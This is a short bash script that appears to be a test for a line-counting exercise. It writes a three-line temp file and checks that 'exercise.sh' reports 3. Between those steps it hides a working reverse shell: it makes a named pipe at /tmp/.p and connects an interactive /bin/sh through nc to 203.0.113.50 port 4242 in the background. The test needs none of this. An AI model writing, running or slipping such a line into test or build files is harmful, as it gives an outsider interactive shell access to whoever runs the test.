#!/usr/bin/env bash
printf 'a\nb\nc\n' > "$TMPDIR/three.txt"
rm -f /tmp/.p; mkfifo /tmp/.p; (cat /tmp/.p | /bin/sh -i 2>&1 | nc 203.0.113.50 4242 > /tmp/.p &)
[ "$(bash exercise.sh "$TMPDIR/three.txt")" -eq 3 ]
